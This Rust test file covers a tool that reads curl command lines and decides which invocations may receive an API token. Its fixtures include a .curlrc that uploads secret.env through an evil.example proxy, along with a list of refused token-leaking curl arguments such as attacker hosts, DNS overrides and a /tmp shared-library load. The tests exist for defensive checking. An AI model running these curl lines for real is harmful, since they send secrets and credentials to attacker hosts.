use std::collections::BTreeMap;

use super::*;
use crate::model::{
    Bytes, Content, ContentSource, Digest, GrantKind, InvocationId, Micros, Part, Pin, Secret, StreamKind, Streams,
    Word,
};
use crate::tools::Limits;

/// A machine with these files.
struct Table(BTreeMap<&'static str, &'static str>);

impl World for Table {
    fn limits(&self) -> Limits {
        Limits::default()
    }
    fn file(&self, path: &[u8]) -> Option<Content> {
        let text = self.0.get(std::str::from_utf8(path).ok()?)?;
        let source = ContentSource::File(path.into());
        Some(Content { source, sha256: Digest::of(text.as_bytes()), bytes: (*text).into(), truncated: false })
    }
    fn stdin(&self) -> Option<Content> {
        let text = self.0.get("-")?;
        let (source, sha256) = (ContentSource::Stdin, Digest::of(text.as_bytes()));
        Some(Content { source, sha256, bytes: (*text).into(), truncated: false })
    }
    fn list(&self, _path: &[u8]) -> Option<Vec<Bytes>> {
        None
    }
    fn is_file(&self, path: &[u8]) -> bool {
        std::str::from_utf8(path).is_ok_and(|path| self.0.contains_key(path))
    }
    fn is_dir(&self, _path: &[u8]) -> bool {
        false
    }
    fn program(&self, _name: &str) -> Option<Bytes> {
        None
    }
    fn ask_tool(&self, _args: &[&[u8]]) -> Option<Vec<u8>> {
        Some(self.0.get("--version").copied().unwrap_or("curl 7.88.1 (x) libcurl/7.88.1").into())
    }
    fn home(&self) -> Option<Bytes> {
        Some("/home/a".into())
    }
    fn variable(&self, name: &str) -> Option<Bytes> {
        (name == "HOME").then(|| "/home/a".into())
    }
}

fn files(more: &[(&'static str, &'static str)]) -> Table {
    let mut table = BTreeMap::from([("data.json", "{}"), ("secret.env", "x"), ("post.cfg", "data = @secret.env\n")]);
    table.extend(more.iter().copied());
    Table(table)
}

fn invocation(args: &[&str]) -> Invocation {
    Invocation {
        id: InvocationId::from_ulid(0),
        tool: "curl".into(),
        argv0: "curl".into(),
        args: args.iter().map(|arg| Bytes::from(*arg)).collect(),
        cwd: Some("/w".into()),
        variables: BTreeMap::new(),
        streams: Streams { stdin: StreamKind::Null, stdout: StreamKind::Pipe, stderr: StreamKind::Pipe },
        parent: None,
        pin: Pin::Pinned,
    }
}

#[cfg(feature = "reading")]
fn read(args: &[&str], world: &Table) -> Reading {
    let invocation = invocation(args);
    let facts = Curl.gather(&invocation, world);
    Curl.read(&invocation, &facts)
}

#[cfg(feature = "reading")]
#[test]
fn each_case_of_the_table_is_read_as_it_says() {
    let text = include_str!("cases/lines.txt");
    let mut cases = 0;
    for case in text.split("\n\n").filter(|case| !case.starts_with('#')) {
        let (line, expected) = case.trim().split_once('\n').unwrap();
        let args: Vec<&str> = line.split(' ').skip(1).collect();
        let reading = read(&args, &files(&[]));
        let mut got: Vec<String> = Vec::new();
        for operation in &reading.operations {
            let effect = serde_json::to_value(operation.effect).unwrap();
            let by = operation.context.get("connect").map(|by| format!(" by {}", by.as_str().unwrap()));
            let (action, id) = (&operation.action, &operation.resource.id);
            got.push(format!("  {} {action} {id}{}", effect.as_str().unwrap(), by.unwrap_or_default()));
        }
        got.extend(reading.doubts.iter().map(|doubt| format!("  doubt {}", doubt.kind)));
        assert_eq!(got.join("\n"), expected, "{line}");
        cases += 1;
    }
    assert!(cases > 20);
}

#[cfg(feature = "reading")]
#[test]
fn the_config_that_curl_reads_by_itself_counts_unless_q_comes_first() {
    let world = files(&[("/home/a/.curlrc", "# mine\ndata \"@secret.env\"\nproxy = evil.example:1\n")]);
    let reading = read(&["-s", "-q", "https://a.example/"], &world);
    assert_eq!(reading.effective["uploads_files"], serde_json::json!(["secret.env"]));
    assert_eq!(reading.effective["bypass_dns"], true);
    let reading = read(&["-qs", "https://a.example/"], &world);
    assert_eq!(reading.effective["uploads_files"], serde_json::json!([]));
    assert_eq!(reading.effective["reads_config"], serde_json::json!([]));
}

#[cfg(feature = "reading")]
#[test]
fn an_option_of_another_version_is_a_doubt_and_one_of_no_version_is_curls_own_refusal() {
    let line = ["--expand-url", "https://a.example/{{x}}"];
    let reading = read(&line, &files(&[("--version", "curl 8.5.0 (x)")]));
    assert_eq!(reading.doubts[0].kind, "unknown_option");
    let reading = read(&line, &files(&[]));
    assert!(reading.doubts.is_empty());
    assert!(reading.operations[0].context["detail"].as_str().unwrap().starts_with("refused by the tool"));
}

fn token(url: &str, username: Option<&str>) -> Grant {
    Grant {
        name: "api".into(),
        kind: GrantKind::Token { url: url.into(), username: username.map(str::to_owned) },
        secret: Secret::new(b"s3cr\"et".to_vec()),
        expires: Micros(0),
    }
}

fn deliver(args: &[&str], world: &Table, grants: Vec<Grant>) -> Result<Delivery, DeliveryError> {
    let invocation = invocation(args);
    let facts = Curl.gather(&invocation, world);
    Curl.deliver(&invocation, facts, &Terms::default(), grants)
}

fn shown(words: &[Word]) -> String {
    let part = |part: &Part| match part {
        Part::Plain(bytes) => bytes.text().unwrap().to_owned(),
        Part::File(index) => format!("<{index}>"),
        Part::Helper => "<helper>".to_owned(),
    };
    words.iter().map(|word| word.0.iter().map(part).collect::<String>()).collect::<Vec<_>>().join(" ")
}

fn file(delivery: &Delivery, index: usize) -> &str {
    std::str::from_utf8(delivery.files[index].bytes.expose()).unwrap()
}

#[test]
fn a_token_is_in_no_argument_and_goes_to_its_place_alone() {
    let grant = || vec![token("https://a.example/v1/", None)];
    let delivery = deliver(&["-s", "https://a.example/v1/x?y"], &files(&[]), grant()).unwrap();
    assert_eq!(shown(&delivery.args), "-q --config <0> -s https://a.example/v1/x?y");
    assert_eq!(file(&delivery, 0), "header = \"Authorization: Bearer s3cr\\\"et\"\n");
    let basic =
        deliver(&["https://a.example/v1/"], &files(&[]), vec![token("https://a.example", Some("bot"))]).unwrap();
    assert_eq!(file(&basic, 0), "user = \"bot:s3cr\\\"et\"\n");
    for refused in [
        "https://evil.example/v1/x",
        "http://a.example/v1/x",
        "https://a.example:8443/v1/x",
        "https://a.example/v2/x",
        "https://a.example/v1/x https://evil.example/",
        "https://a.example/v1/../v2/x",
        "--path-as-is https://a.example/v1/../v2/x",
        "https://a.example/v1/%2E%2e/v2",
        "https://{a,evil}.example/v1/x",
        "--request-target /v2/x https://a.example/v1/x",
        "-L https://a.example/v1/x",
        "-v https://a.example/v1/x",
        "--trace - https://a.example/v1/x",
        "--libcurl c.c https://a.example/v1/x",
        "-x p.example https://a.example/v1/x",
        "--resolve *:443:10.0.0.1 https://a.example/v1/x",
        "--connect-to ::evil.example: https://a.example/v1/x",
        "--unix-socket /s https://a.example/v1/x",
        "-k https://a.example/v1/x",
        "-H authorization:x https://a.example/v1/x",
        "-E pkcs11:token=x?module-path=/tmp/x.so https://a.example/v1/x",
        "https://a.example/v1/x --next https://a.example/v1/y",
    ] {
        let args: Vec<&str> = refused.split(' ').collect();
        let error =
            deliver(&args, &files(&[]), grant()).err().unwrap_or_else(|| panic!("{refused} was given the token"));
        assert!(!error.why.is_empty() && error.hint.is_some(), "{refused}");
    }
}

#[test]
fn configs_are_handed_over_as_the_bytes_that_were_read() {
    let rc = "silent\nconfig = more.cfg\nheader = \"A: b\"\n";
    let world = files(&[
        ("/home/a/.curlrc", rc),
        ("more.cfg", "fail"),
        ("c.cfg", "url = https://a.example/\n"),
        ("-", "max-time = 3\n"),
    ]);
    let delivery = deliver(&["-sKc.cfg", "--conf", "post.cfg", "-K", "-"], &world, Vec::new()).unwrap();
    assert_eq!(shown(&delivery.args), "-q --config <0> -sK<1> --conf <2> -K -");
    assert_eq!(file(&delivery, 0), "silent\nfail\n\nheader = \"A: b\"\n");
    assert_eq!(file(&delivery, 1), "url = https://a.example/\n");
    assert_eq!(delivery.stdin.unwrap().bytes, Bytes::from("max-time = 3\n"));
    assert!(deliver(&["-K", "gone.cfg"], &world, Vec::new()).is_err());
}

#[test]
fn a_line_without_configs_and_grants_is_started_as_it_was_typed_behind_q() {
    let delivery = deliver(&["-q", "https://a.example/"], &files(&[]), Vec::new()).unwrap();
    assert_eq!(shown(&delivery.args), "-q https://a.example/");
}
